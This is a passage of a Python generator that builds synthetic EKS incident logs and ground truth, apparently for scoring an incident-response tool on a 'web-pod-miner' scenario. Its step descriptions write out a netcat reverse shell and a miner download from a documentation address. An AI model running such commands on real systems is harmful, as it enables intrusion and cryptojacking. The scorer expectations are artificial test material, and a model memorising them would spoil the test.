        tt = T("01:58:00") + timedelta(seconds=int(sha("tok" + name)[:4], 16) % 2400)
        audit(tt, u_node(n, role, rid), "create", f"/api/v1/namespaces/shop/serviceaccounts/{sa_name}/token",
              oref("serviceaccounts", "shop", sa_name, sub="token"), code=201, ua=KUBELET_131, src=[n.ip])


def wpm_cloudtrail():
    role, rid = W["node_role"], W["node_role_id"]
    cni_ua = ("aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.198.1 m/E "
              "amazon-vpc-cni-k8s/v1.19.2")
    ecr_ua = ("aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.38.3 m/E "
              "ecr-credential-provider")
    created = T("01:12:44")
    for hhmm, n in (("01:52:18", W["A"]), ("02:02:41", W["B"]), ("02:22:19", W["A"]), ("02:32:40", W["B"]), ("02:52:17", W["A"])):
        ident = id_role(role, rid, n.instance, n.asia, created, {"ec2RoleDelivery": "2.0"})
        if hhmm in ("01:52:18", "02:02:41"):   # ipamd re-reads its instance after the nightly aws-node config reload
            ct(T(hhmm), ident, "ec2.amazonaws.com", "DescribeInstances", params={"instancesSet": {"items": [{"instanceId": n.instance}]},
                                                                                "filterSet": {}},
               ip=W["nat"], ua=cni_ua)
        ct(T(hhmm) + timedelta(seconds=1), ident, "ec2.amazonaws.com", "DescribeNetworkInterfaces",
           params={"networkInterfaceIdSet": {}, "filterSet": {"items": [{"name": "attachment.instance-id",
                                                                          "valueSet": {"items": [{"value": n.instance}]}}]}},
           ip=W["nat"], ua=cni_ua)
    ident = id_role(role, rid, W["B"].instance, W["B"].asia, created, {"ec2RoleDelivery": "2.0"})
    ct(T("02:07:33"), ident, "ecr.amazonaws.com", "GetAuthorizationToken", params={"registryIds": [S.account]}, ip=W["nat"], ua=ecr_ua)
    oidc = f"arn:aws:iam::{S.account}:oidc-provider/oidc.eks.{S.region}.amazonaws.com/id/5E2B8C1D9F3A7E6B4C0D2F8A1B3C5D7E"
    for hhmm, (name, n, ip) in (("02:05:12", W["cart_pods"][0]), ("02:31:48", W["cart_pods"][1])):
        web_identity_assume(T(hhmm), "shop-cart-irsa", "AROARQ4WZT7KCARTIRSA", f"botocore-session-{1774000000 + int(sha(name)[:5], 16)}",
                            oidc, "system:serviceaccount:shop:cart", "sts.amazonaws.com", W["nat"],
                            "Boto3/1.35.90 md/Botocore#1.35.90 ua/2.0 os/linux#6.1.128-136.201.amzn2023.x86_64 md/arch#x86_64 "
                            "lang/python#3.12.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.90", "background")
    slr = id_service_linked("AWSServiceRoleForAmazonGuardDuty", "AROARQ4WZT7KGDSLR9XQ", "GuardDuty", "guardduty.amazonaws.com", T("02:00:01"))
    ct(T("02:10:05"), slr, "ec2.amazonaws.com", "DescribeInstances", params={"instancesSet": {}, "filterSet": {}},
       ip="guardduty.amazonaws.com", ua="guardduty.amazonaws.com", tls=False)


def wpm_snapshot():
    A, B = W["A"], W["B"]
    snap = W["snap"]
    pods = []
    for name, n, ip in W["web_pods"]:
        pods.append(make_pod(name, "shop", W["web_created"] + timedelta(seconds=int(sha(name)[:2], 16) % 40), [web_container(W["web_image"])],
                             n, ip, labels=dict(W["web_labels"], **{"pod-template-hash": "7d4b9c8f6"}),
                             owner_ref=owner("ReplicaSet", W["web_rs"]), sa="web", generate_name=W["web_rs"] + "-",
                             pod_security={"fsGroup": 1000}))
    for name, n, ip in W["cart_pods"]:
        pods.append(make_pod(name, "shop", W["cart_created"] + timedelta(seconds=int(sha(name)[:2], 16) % 40), [cart_container(W["cart_image"])],
                             n, ip, labels={"app": "cart", "tier": "backend", "pod-template-hash": "5f6d7c8b9"},
                             owner_ref=owner("ReplicaSet", W["cart_rs"]), sa="cart", generate_name=W["cart_rs"] + "-"))
    for name, ns, n, ip, kind, own, image, sa in wpm_sys_pods():
        cname = own if kind == "DaemonSet" else "coredns"
        c = {"name": cname, "image": image, "resources": {"requests": {"cpu": "25m"}}}
        vols, hostnet, labels = [], False, {"k8s-app": own}
        if own == "aws-node":
            hostnet = True
            c["securityContext"] = {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}
            c["volumeMounts"] = [{"name": "cni-bin-dir", "mountPath": "/host/opt/cni/bin"}, {"name": "cni-net-dir", "mountPath": "/host/etc/cni/net.d"}]
            vols = [{"name": "cni-bin-dir", "hostPath": {"path": "/opt/cni/bin", "type": ""}},
                    {"name": "cni-net-dir", "hostPath": {"path": "/etc/cni/net.d", "type": ""}}]
        elif own == "kube-proxy":
            hostnet = True
            c["securityContext"] = {"privileged": True}
            c["volumeMounts"] = [{"name": "lib-modules", "mountPath": "/lib/modules", "readOnly": True}]
            vols = [{"name": "lib-modules", "hostPath": {"path": "/lib/modules", "type": ""}}]
        elif own == "falco":
            labels = {"app.kubernetes.io/name": "falco", "app.kubernetes.io/instance": "falco"}
            c["securityContext"] = {"privileged": True}
            c["args"] = ["/usr/bin/falco", "-o", "json_output=true", "-o", "http_output.enabled=true"]
            c["volumeMounts"] = [{"name": "proc-fs", "mountPath": "/host/proc", "readOnly": True},
                                 {"name": "containerd-socket", "mountPath": "/host/run/containerd"}]
            vols = [{"name": "proc-fs", "hostPath": {"path": "/proc", "type": ""}},
                    {"name": "containerd-socket", "hostPath": {"path": "/run/containerd", "type": ""}}]
        elif own == "aws-guardduty-agent":
            hostnet = True
            labels = {"app.kubernetes.io/name": "aws-guardduty-agent"}
            c["securityContext"] = {"privileged": True}
        elif sa == "coredns":
            labels = {"k8s-app": "kube-dns", "eks.amazonaws.com/component": "coredns"}
        labels["pod-template-hash" if kind == "ReplicaSet" else "controller-revision-hash"] = own.rsplit("-", 1)[1] if kind == "ReplicaSet" else "7c5d9f8b6"
        pods.append(make_pod(name, ns, T("03:14:02", "2026-03-09") + timedelta(seconds=len(pods)), [c], n, ip, labels=labels,
                             owner_ref=owner(kind, own), sa=sa, host_network=hostnet, volumes=vols, generate_name=own + "-",
                             tolerations=[{"operator": "Exists"}] if kind == "DaemonSet" else None,
                             priority_class="system-node-critical" if kind == "DaemonSet" else "system-cluster-critical"))
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    wc, cc = [web_container(W["web_image"])], [cart_container(W["cart_image"])]
    deps = [deployment("web", "shop", "2025-09-03T11:20:41Z", 3, {"app": "web"}, W["web_labels"], wc, "web", "7d4b9c8f6", 14),
            deployment("cart", "shop", "2025-09-03T11:21:02Z", 2, {"app": "cart"}, {"app": "cart", "tier": "backend"}, cc, "cart", "5f6d7c8b9", 9)]
    rss = [replicaset("web", "shop", "7d4b9c8f6", iso_s(W["web_created"]), 3, W["web_labels"], wc, "web", 14),
           replicaset("cart", "shop", "5f6d7c8b9", iso_s(W["cart_created"]), 2, {"app": "cart", "tier": "backend"}, cc, "cart", 9)]
    sas = [serviceaccount("web", "shop", "2025-09-03T11:20:40Z"), serviceaccount("cart", "shop", "2025-09-03T11:21:01Z",
                                                                                  {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{S.account}:role/shop-cart-irsa"}),
           serviceaccount("default", "shop", "2025-09-03T11:20:12Z"), serviceaccount("default", "default", "2025-09-01T16:28:51Z"),
           serviceaccount("aws-node", "kube-system", "2025-09-01T16:30:03Z"), serviceaccount("coredns", "kube-system", "2025-09-01T16:28:55Z"),
           serviceaccount("kube-proxy", "kube-system", "2025-09-01T16:28:56Z"), serviceaccount("falco", "falco", "2025-09-05T09:12:30Z"),
           serviceaccount("aws-guardduty-agent", "amazon-guardduty", "2025-09-05T09:30:14Z")]
    roles = [{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": meta("web-pod-reader", "shop", "2025-09-03T11:20:40Z"),
              "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "watch"]}]}]
    rbs = [rb("web-pod-reader", "shop", "Role", "web-pod-reader", [SA("web", "shop")], "2025-09-03T11:20:40Z"),
           rb("shop-developers-view", "shop", "ClusterRole", "view", [G("shop:developers")], "2025-09-03T11:19:58Z")]
    crbs = system_crbs("2025-09-01T16:28:51Z") + [
        crb("falco", "falco", [SA("falco", "falco")], "2025-09-05T09:12:30Z", labels={"app.kubernetes.io/name": "falco"}),
        crb("aws-guardduty-agent", "aws-guardduty-agent", [SA("aws-guardduty-agent", "amazon-guardduty")], "2025-09-05T09:30:14Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    cms = [aws_auth(f"arn:aws:iam::{S.account}:role/{W['node_role']}", "2025-09-01T16:35:12Z"),
           {"apiVersion": "v1", "kind": "ConfigMap", "data": {"ca.crt": fake_pem("prod-shop-ca")},
            "metadata": meta("kube-root-ca.crt", "kube-system", "2025-09-01T16:28:50Z")}]
    eks_ = describe_cluster("1.31", "https://5E2B8C1D9F3A7E6B4C0D2F8A1B3C5D7E.gr7.us-west-2.eks.amazonaws.com",
                            list(W["subnets"].values()), W["sg"], W["vpc"], "2025-09-01T16:20:05.118000+00:00", "eks.19",
                            {"env": "production", "team": "shop"}, ["0.0.0.0/0"], ["api", "audit", "authenticator"],
                            "5E2B8C1D9F3A7E6B4C0D2F8A1B3C5D7E")
    entries = {"accessEntries": sorted([f"arn:aws:iam::{S.account}:role/{W['node_role']}", f"arn:aws:iam::{S.account}:role/platform-admin",
                                        f"arn:aws:iam::{S.account}:role/github-actions-deploy"])}
    nodes = [node_object(A, "usw2-az2", snap, "v1.31.4-eks-aeac579", W["ami"]), node_object(B, "usw2-az3", snap, "v1.31.4-eks-aeac579", W["ami"])]
    return {"pods.json": k8s_list(pods), "replicasets-shop.json": k8s_list(rss), "deployments-shop.json": k8s_list(deps),
            "nodes.json": k8s_list(nodes), "serviceaccounts.json": k8s_list(sas), "roles-shop.json": k8s_list(roles),
            "rolebindings-shop.json": k8s_list(rbs), "clusterrolebindings.json": k8s_list(crbs),
            "networkpolicies.json": k8s_list([]), "configmaps-kube-system.json": k8s_list(cms),
            "eks-describe-cluster.json": eks_, "eks-list-access-entries.json": entries}


# =============================================================================================
# Writing files (shared)
# =============================================================================================
def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, bytes):
        with open(path, "wb") as f:
            f.write(data)
    else:
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            f.write(data)


def gz(data):
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0, compresslevel=6) as g:
        g.write(data)
    return buf.getvalue()


def parse_ct_time(r):
    return datetime.strptime(r["eventTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc)


def write_cloudtrail(base, files):
    buckets = {}
    for rec, _, _ in S.CT:
        t = parse_ct_time(rec)
        buckets.setdefault(t.replace(minute=t.minute - t.minute % 5, second=0) + timedelta(minutes=10), []).append(rec)
    for delivered in sorted(buckets):
        recs = sorted(buckets[delivered], key=lambda r: (r["eventTime"], r["eventID"]))
        random.Random(S.name + delivered.isoformat()).shuffle(recs)
        stamp = delivered.strftime("%Y%m%dT%H%MZ")
        name = f"{S.account}_CloudTrail_{S.region}_{stamp}_{hashlib.sha256((S.name + stamp).encode()).hexdigest()[:16]}.json.gz"
        write(os.path.join(base, "cloudtrail", name), gz(('{"Records":[' + ",".join(dumps_compact(r) for r in recs) + "]}").encode()))
        files[f"cloudtrail/{name}"] = len(recs)


def write_lookup_events(base, files, username):
    recs = [r for r, _, _ in S.CT if r["userIdentity"].get("arn", "").endswith("/" + username)
            or r["userIdentity"].get("userName") == username]
    recs.sort(key=lambda r: (r["eventTime"], r["eventID"]), reverse=True)
    events = []
    for r in recs:
        p = r.get("requestParameters") or {}
        res = []
        if r["eventSource"] == "eks.amazonaws.com":
            res = [{"ResourceType": "AWS::EKS::Cluster", "ResourceName": p.get("name", p.get("clusterName", S.cluster))}]
        e = {"EventId": r["eventID"], "EventName": r["eventName"], "ReadOnly": "true" if r["readOnly"] else "false"}
        if r["userIdentity"].get("accessKeyId"):
            e["AccessKeyId"] = r["userIdentity"]["accessKeyId"]
        e.update({"EventTime": parse_ct_time(r).strftime("%Y-%m-%dT%H:%M:%S+00:00"), "EventSource": r["eventSource"],
                  "Username": username, "Resources": res, "CloudTrailEvent": dumps_compact(r)})
        events.append(e)
    write(os.path.join(base, "cloudtrail", "lookup-events.json"), dumps_cli({"Events": events}))
    files["cloudtrail/lookup-events.json"] = len(events)


def audit_sorted():
    return sorted(S.AUDIT, key=lambda e: (e[0]["stageTimestamp"], e[0]["auditID"], e[0]["stage"]))


def write_audit(base, files, streams, filter_user):
    lines = [dumps_compact(ev) for ev, _, _ in audit_sorted()]
    write(os.path.join(base, "k8s-audit", "kube-apiserver-audit.log"), "\n".join(lines) + "\n")
    files["k8s-audit/kube-apiserver-audit.log"] = len(lines)
    srng = random.Random(S.name + "streams")
    events = []
    for ev, _, _ in audit_sorted():
        stream = streams[srng.randrange(len(streams))]
        if ev["user"]["username"] != filter_user:
            continue
        t = datetime.strptime(ev["stageTimestamp"], "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
        events.append({"logStreamName": stream, "timestamp": epoch_ms(t), "message": dumps_compact(ev),
                       "ingestionTime": epoch_ms(t) + srng.randint(900, 3500),
                       "eventId": str(int(hashlib.sha256(ev["auditID"].encode() + ev["stage"].encode()).hexdigest(), 16))[:56]})
    write(os.path.join(base, "k8s-audit", "filter-log-events.json"), dumps_cli({"events": events, "searchedLogStreams": []}))
    files["k8s-audit/filter-log-events.json"] = len(events)


def write_guardduty(base, files):
    fs = sorted(S.FINDINGS, key=lambda f: f[0]["createdAt"])
    if not fs:
        return
    write(os.path.join(base, "guardduty", "findings.json"), dumps_cli({"Findings": [to_cli(f) for f, _, _ in fs]}))
    lines = [dumps_compact({"version": "0", "id": stable_uuid("eb" + f["id"]), "detail-type": "GuardDuty Finding",
                            "source": "aws.guardduty", "account": S.account, "time": f["updatedAt"][:19] + "Z",
                            "region": S.region, "resources": [], "detail": f}) for f, _, _ in fs]
    write(os.path.join(base, "guardduty", "eventbridge.jsonl"), "\n".join(lines) + "\n")
    files["guardduty/findings.json"] = files["guardduty/eventbridge.jsonl"] = len(fs)


def write_falco(base, files):
    alerts = sorted(S.FALCO, key=lambda a: (a[0]["time"], a[0]["rule"]))
    write(os.path.join(base, "falco", "falco.jsonl"), "\n".join(dumps_compact(a) for a, _, _ in alerts) + "\n")
    files["falco/falco.jsonl"] = len(alerts)


def write_ocsf(base, files):
    for f, _, _ in S.OCSF:
        write(os.path.join(base, "ocsf", "edr-detection-finding.json"), json.dumps(f, indent=2) + "\n")
        files["ocsf/edr-detection-finding.json"] = 1


def write_snapshot(base, files, snap):
    for name, obj in snap.items():
        write(os.path.join(base, "snapshot", name), dumps_cli(obj))
        files[f"snapshot/{name}"] = len(obj["items"]) if "items" in obj else 1


def truth_records():
    recs = []
    for r, label, step in S.CT:
        recs.append({"source": "cloudtrail", "id": r["eventID"], "time": r["eventTime"], "name": f'{r["eventSource"].split(".")[0]}:{r["eventName"]}',
                     "actor": r["userIdentity"].get("arn") or r["userIdentity"].get("userName"), "label": label, "step": step})
    for ev, label, step in audit_sorted():
        o = ev.get("objectRef", {})
        recs.append({"source": "k8s-audit", "id": ev["auditID"], "stage": ev["stage"], "time": ev["stageTimestamp"],
                     "name": f'{ev["verb"]} {o.get("resource", ev["requestURI"])}' + (f'/{o["subresource"]}' if o.get("subresource") else "")
                             + (f' {o.get("namespace", "")}/{o.get("name", "")}'.rstrip("/") if o.get("namespace") or o.get("name") else ""),
                     "actor": ev["user"]["username"], "code": ev["responseStatus"]["code"], "label": label, "step": step})
    for f, label, step in S.FINDINGS:
        recs.append({"source": "guardduty", "id": f["id"], "time": f["createdAt"], "name": f["type"], "severity": f["severity"],
                     "label": label, "step": step})
    for a, label, step in S.FALCO:
        recs.append({"source": "falco", "id": a["time"] + " " + a["rule"], "time": a["time"], "name": a["rule"],
                     "priority": a["priority"], "label": label, "step": step})
    for o, label, step in S.OCSF:
        recs.append({"source": "ocsf", "id": o["finding_info"]["uid"], "time": iso_ms(datetime.fromtimestamp(o["time"] / 1000, tz=timezone.utc)),
                     "name": o["finding_info"]["title"], "label": label, "step": step})
    recs.sort(key=lambda x: (x["time"], x["source"], x["id"]))
    return recs


DETECTION_SOURCES = ("guardduty", "falco", "ocsf")


def expected_timeline(recs):
    """The `expect` timeline: one entry per attack record (an audit event logged at two stages counts
    once, at its first), tagged as eksir's timeline tags it."""
    seen = {}
    for r in recs:
        if r["label"] != "attack" or (r["id"] in seen and seen[r["id"]]["time"] <= r["time"]):
            continue
        seen[r["id"]] = {"time": r["time"], "tag": "DETECTION" if r["source"] in DETECTION_SOURCES else "INCIDENT",
                         "event_id": r["id"], "what": f'{r["source"]} {r["name"]}'}
        if r["source"] == "ocsf":   # an OCSF finding also goes by its metadata.uid
            seen[r["id"]]["alt_event_ids"] = [o["metadata"]["uid"] for o, _, _ in S.OCSF if o["finding_info"]["uid"] == r["id"]]
    return sorted(seen.values(), key=lambda e: (e["time"], e["event_id"]))


def lookalike_records(recs, keep):
    """`expect` timeline_not entries: the benign records `keep(record)` picks, once each."""
    out, seen = [], set()
    for r in recs:
        if r["label"] == "benign" and keep(r) and r["id"] not in seen:
            seen.add(r["id"])
            out.append({"event_id": r["id"], "what": f'{r["source"]} {r["name"]} ({r["step"]})'})
    return out


def write_truth(path, head, files):
    recs = truth_records()
    truth = dict(head)
    if callable(truth.get("expect")):
        truth["expect"] = truth["expect"](recs)   # the scorer's expectations (tests/scenarios), from the records
    truth["files"] = files
    truth["counts"] = {"attack": sum(1 for r in recs if r["label"] == "attack"),
                       "benign": sum(1 for r in recs if r["label"] == "benign")}
    truth["records"] = recs
    write(path, json.dumps(truth, indent=2) + "\n")
    return truth["counts"]


DOC_NETS = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")]


def check(base, consistency=None):
    """Re-read every file: valid JSON, unique ids, filter-log-events a subset of the log, only private or
    documentation addresses, and (when given) the scenario's cross-source consistency checks."""
    problems, texts, docs = [], {}, {}
    for root, _, names in os.walk(base):
        for name in names:
            path = os.path.join(root, name)
            rel = os.path.relpath(path, base).replace(os.sep, "/")
            with open(path, "rb") as f:
                data = f.read()
            if name.endswith(".gz"):
                data = gzip.decompress(data)
            texts[rel] = data.decode("utf-8")
            try:
                docs[rel] = ([json.loads(line) for line in texts[rel].splitlines()] if rel.endswith((".jsonl", ".log"))
                             else json.loads(texts[rel]))
            except ValueError as e:
                problems.append(f"{rel}: not valid JSON: {e}")
    if problems:
        return problems
    s3 = [r for rel, d in docs.items() if rel.startswith("cloudtrail/") and rel.endswith(".json.gz") for r in d["Records"]]
    if len({r["eventID"] for r in s3}) != len(s3):
        problems.append("cloudtrail: duplicate eventID")
    by_id = {r["eventID"]: r for r in s3}
    for e in docs.get("cloudtrail/lookup-events.json", {"Events": []})["Events"]:
        if by_id.get(e["EventId"]) != json.loads(e["CloudTrailEvent"]):
            problems.append(f"lookup-events: {e['EventId']} differs from the S3 record")
    log = docs["k8s-audit/kube-apiserver-audit.log"]
    if len({(a["auditID"], a["stage"]) for a in log}) != len(log):
        problems.append("k8s-audit: duplicate (auditID, stage)")
    lines = set(texts["k8s-audit/kube-apiserver-audit.log"].splitlines())
    for e in docs["k8s-audit/filter-log-events.json"]["events"]:
        if e["message"] not in lines:
            problems.append(f"filter-log-events: {e['eventId']} not in the log")
    for rel, text in texts.items():
        for m in set(re.findall(r"(?<![\d./])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])", text)):
            try:
                ip = ipaddress.ip_address(m)
            except ValueError:
                continue
            if ip.is_private or ip.is_unspecified or ip.is_loopback or any(ip in n for n in DOC_NETS):
                continue
            problems.append(f"{rel}: address {m} is neither private nor a documentation address")
    if consistency:
        problems += consistency(docs)
    return problems


def wpm_consistency(docs):
    problems = []
    pods = {(p["metadata"]["namespace"], p["metadata"]["name"]): p for p in docs["snapshot/pods.json"]["items"]}
    nodes = {n["metadata"]["name"]: n for n in docs["snapshot/nodes.json"]["items"]}
    pod = pods[("shop", W["pod"])]
    node = nodes[pod["spec"]["nodeName"]]
    inst = node["spec"]["providerID"].rsplit("/", 1)[1]
    cid = pod["status"]["containerStatuses"][0]["containerID"].split("//")[1]
    rs = pod["metadata"]["ownerReferences"][0]
    rss = {r["metadata"]["name"]: r for r in docs["snapshot/replicasets-shop.json"]["items"]}
    if rs["uid"] != rss[rs["name"]]["metadata"]["uid"]:
        problems.append("snapshot: pod ownerReference uid != ReplicaSet uid")
    dep = {d["metadata"]["name"]: d for d in docs["snapshot/deployments-shop.json"]["items"]}["web"]
    if rss[rs["name"]]["metadata"]["ownerReferences"][0]["uid"] != dep["metadata"]["uid"]:
        problems.append("snapshot: ReplicaSet ownerReference uid != Deployment uid")
    if inst != W["A"].instance or pod["metadata"]["uid"] != W["pod_uid"] or pod["status"]["podIP"] != W["pod_ip"]:
        problems.append("snapshot: pod/node/instance mismatch")
    for f in docs["guardduty/findings.json"]["Findings"]:
        r = f["Resource"]
        if r["InstanceDetails"]["InstanceId"] != inst or r["KubernetesDetails"]["KubernetesWorkloadDetails"]["Uid"] != W["pod_uid"] \
                or r["ContainerDetails"]["Id"] != cid:
            problems.append(f"guardduty {f['Id']}: resource mismatch")
    for a in docs["falco/falco.jsonl"]:
        if a["output_fields"].get("k8s.pod.name") == W["pod"] and (a["hostname"] != node["metadata"]["name"]
                                                                   or a["output_fields"]["container.id"] != cid[:12]):
            problems.append(f"falco {a['time']}: host or container mismatch")
    o = docs["ocsf/edr-detection-finding.json"]
    if o["device"]["instance_uid"] != inst or o["actor"]["process"]["container"]["uid"] != cid:
        problems.append("ocsf: device or container mismatch")
    for a in docs["k8s-audit/kube-apiserver-audit.log"]:
        ex = a["user"].get("extra", {})
        if ex.get("authentication.kubernetes.io/pod-name") == [W["pod"]] and (
                ex["authentication.kubernetes.io/node-name"] != [node["metadata"]["name"]]
                or ex["authentication.kubernetes.io/pod-uid"] != [W["pod_uid"]] or a["sourceIPs"] != [W["pod_ip"]]):
            problems.append(f"audit {a['auditID']}: token extras mismatch")
    return problems


WPM_STEPS = {
    "runtime-rce-reverse-shell": "the Node.js server process in shop/web-7d4b9c8f6-x2k9p spawns sh -> busybox nc back to 203.0.113.66:4444 (-e /bin/sh): remote code execution through the app, reverse shell",
    "k8s-sa-token-abuse": "the shell reads the pod's service-account token and calls the API server with busybox wget: list/get secrets and configmaps (403), list pods in shop (allowed), list pods in kube-system (403), selfsubjectrulesreviews",
    "runtime-miner": "wget downloads /tmp/.font-unix/kworkerd from 203.0.113.66:8000; it runs as an XMRig-style miner against pool.supportxmr.com:3333 (203.0.113.88)",
    "detect-reverse-shell": "GuardDuty Runtime Monitoring: Execution:Runtime/ReverseShell",
    "detect-new-binary": "GuardDuty Runtime Monitoring: Execution:Runtime/NewBinaryExecuted",
    "detect-crypto-mining": "GuardDuty Runtime Monitoring: CryptoCurrency:Runtime/BitcoinTool.B!DNS",
    "detect-edr-miner": "EDR (OCSF Detection Finding) on the node: miner from a reverse shell",
    "app-peer-discovery": "benign: every web replica lists pods in shop every 5 minutes (node-fetch) with the same service account and Role",
    "background": "benign: kubelets, control plane, CoreDNS, eks:k8s-metrics, token refreshes; node CNI and ECR calls, IRSA of cart, GuardDuty's service-linked role",
}


def build_web_pod_miner(out):
    wpm_world()
    wpm_attack()
    wpm_background()
    wpm_cloudtrail()
    wpm_guardduty()
    S.OCSF.append((wpm_ocsf(), "attack", "detect-edr-miner"))
    base = os.path.join(out, "web-pod-miner")
    files = {}
    write_cloudtrail(base, files)
    write_audit(base, files, ["kube-apiserver-audit-8e1f0c3d5a7b49e2a6c4d2b0f8e6a4c2",
                              "kube-apiserver-audit-1d3f5b7a9c1e43f5b7d9f1a3c5e7b9d1"], "system:serviceaccount:shop:web")
    write_guardduty(base, files)
    write_falco(base, files)
    write_ocsf(base, files)
    write_snapshot(base, files, wpm_snapshot())
    A, B = W["A"], W["B"]
    tt = W["t"]
    head = {
        "scenario": "web-pod-miner",
        "summary": (f"The production web app shop/web on EKS cluster {S.cluster} ({S.account}, {S.region}) is exploited: the Node.js "
                    f"process in pod shop/{W['pod']} on {A.name} ({A.instance}) spawns a reverse shell to {W['attacker']}, the "
                    "attacker uses the pod's service-account token against the API (secrets forbidden, pods in shop listed) and "
                    f"runs a Monero miner against {W['pool']} ({W['pool_ip']}:3333). The other node and the other web replicas "
                    "show nothing."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "active exploitation of critical vulnerabilities",
             "evidence": "remote code execution through the production web application: the app's node process (pid 3518, "
                         "user node) spawns sh and `nc 203.0.113.66 4444 -e /bin/sh` at 02:13:41 (Falco Netcat Remote Code "
                         "Execution / Redirect STDOUT-STDIN, GuardDuty Execution:Runtime/ReverseShell, EDR lineage node -> sh -> nc)"},
            {"level": "Critical", "criterion": "production impact",
             "evidence": f"cluster {S.cluster} and namespace shop are production (eksir.yaml); a miner runs in a serving "
                         "frontend replica from 02:18:13 (Falco, GuardDuty BitcoinTool.B!DNS 9 times until 02:41, EDR)"},
            {"level": "High", "criterion": "unusual network activity from workloads",
             "evidence": "reverse shell to 203.0.113.66:4444, download from 203.0.113.66:8000, mining pool 203.0.113.88:3333"},
            {"level": "High", "criterion": "lateral movement attempts",
             "evidence": "the service-account token used from the shell (user agent Wget, source 10.20.3.57) to list secrets "
                         "and kube-system pods: all forbidden (403); only list pods in shop succeeded (Role web-pod-reader)"},
        ],
        "not_met": ["no cluster-admin or other credentials obtained (every secrets/configmaps call was 403)",
                    "one node only: ip-10-20-5-201 and the other two web replicas show no alert",
                    "no evidence of data exfiltration; no CloudTrail activity by the attacker (node role used only by its usual callers)"],
        "entities": {
            "account": S.account, "region": S.region, "cluster": S.cluster, "cluster_arn": S.cluster_arn,
            "namespace": "shop", "deployment": "shop/web", "replicaset": f"shop/{W['web_rs']}", "pod": f"shop/{W['pod']}",
            "pod_uid": W["pod_uid"], "pod_ip": W["pod_ip"],
            "pod_labels": dict(W["web_labels"], **{"pod-template-hash": "7d4b9c8f6"}),
            "container": "web", "container_id": W["cid"], "image": W["web_image"],
            "serviceaccount": "shop/web", "k8s_username": "system:serviceaccount:shop:web",
            "node": A.name, "instance_id": A.instance, "availability_zone": A.zone, "provider_id": f"aws:///{A.zone}/{A.instance}",
            "node_ip": A.ip, "nodegroup": W["ng"],
            "not_compromised": {"node": B.name, "instance_id": B.instance,
                                "web_replicas": [f"shop/{n}" for n, _, _ in W["web_pods"][1:]],
                                "unrelated_pods": [f"shop/{n}" for n, _, _ in W["cart_pods"]]},
            "attacker_ips": [W["attacker"], W["pool_ip"]], "pool_domain": W["pool"], "miner_path": W["miner_path"],
            "miner_sha256": W["miner_sha"], "security_group": W["sg"],
        },
        "timeline": [
            {"time": iso_us(tt["rce"]), "tag": "INCIDENT", "text": "node process in shop/web-7d4b9c8f6-x2k9p spawns nc -e /bin/sh to 203.0.113.66:4444", "source": "falco"},
            {"time": iso_us(tt["api"]), "tag": "INCIDENT", "text": "service-account token of shop/web used from the pod with wget: list secrets forbidden", "source": "k8s-audit, falco"},
            {"time": "2026-03-20T02:16:10Z", "tag": "INCIDENT", "text": "list pods in shop allowed (Role web-pod-reader)", "source": "k8s-audit"},
            {"time": iso_us(tt["run"]), "tag": "INCIDENT", "text": "dropped binary /tmp/.font-unix/kworkerd executed (miner)", "source": "falco"},
            {"time": iso_us(tt["conn"]), "tag": "INCIDENT", "text": "connection to pool 203.0.113.88:3333 (pool.supportxmr.com)", "source": "falco, ocsf"},
            {"time": "2026-03-20T02:18:16.305Z", "tag": "DETECTION", "text": "EDR detection on ip-10-20-3-14 (first detection)", "source": "ocsf"},
            {"time": "2026-03-20T02:19:03.417Z", "tag": "DETECTION", "text": "GuardDuty Execution:Runtime/ReverseShell", "source": "guardduty"},
            {"time": "2026-03-20T02:23:40.092Z", "tag": "DETECTION", "text": "GuardDuty Execution:Runtime/NewBinaryExecuted", "source": "guardduty"},
            {"time": "2026-03-20T02:24:12.731Z", "tag": "DETECTION", "text": "GuardDuty CryptoCurrency:Runtime/BitcoinTool.B!DNS", "source": "guardduty"},
        ],
        "metrics": {"first_malicious_event": "2026-03-20T02:13:41.502318611Z",
                    "first_detection": "2026-03-20T02:13:41.502318611Z (Falco alert at the time of the event; first finding by a managed detector: EDR 02:18:16.305Z, GuardDuty 02:19:03.417Z)"},
        "response_hints": {"isolate_pod_labels": dict(W["web_labels"], **{"pod-template-hash": "7d4b9c8f6"}),
                           "note": "a NetworkPolicy selecting app=web,tier=frontend isolates all three replicas; add "
                                   "pod-template-hash or label the pod (e.g. quarantine=true) to isolate only x2k9p",
                           "cordon_node": A.name, "instance": A.instance},
        "benign_lookalikes": [
            "every web replica lists pods in shop every 5 minutes with the same service account (user agent node-fetch, from its own pod IP): the attacker's list pods differs by user agent (Wget), cadence and the 403s around it; Falco's Contact K8S API Server rule has a local exception for the app's own node process in shop/web, so only the attacker's wget raises it",
            "the other web replicas (m4vtz, r5n7d) and the cart pods run the same or similar images on the same/other node and raise nothing",
            "kube-proxy (privileged), aws-node and aws-guardduty-agent (hostNetwork), falco (privileged, hostPath /proc) are the expected EKS/security DaemonSets",
            "CloudTrail: node role DescribeInstances / DescribeNetworkInterfaces (VPC CNI), ECR GetAuthorizationToken, cart's IRSA AssumeRoleWithWebIdentity, GuardDuty's service-linked role",
        ],
        "steps": WPM_STEPS,
    }
    others = [n for n, _, _ in W["web_pods"][1:]] + [n for n, _, _ in W["cart_pods"]]
    head["expect"] = lambda recs: {
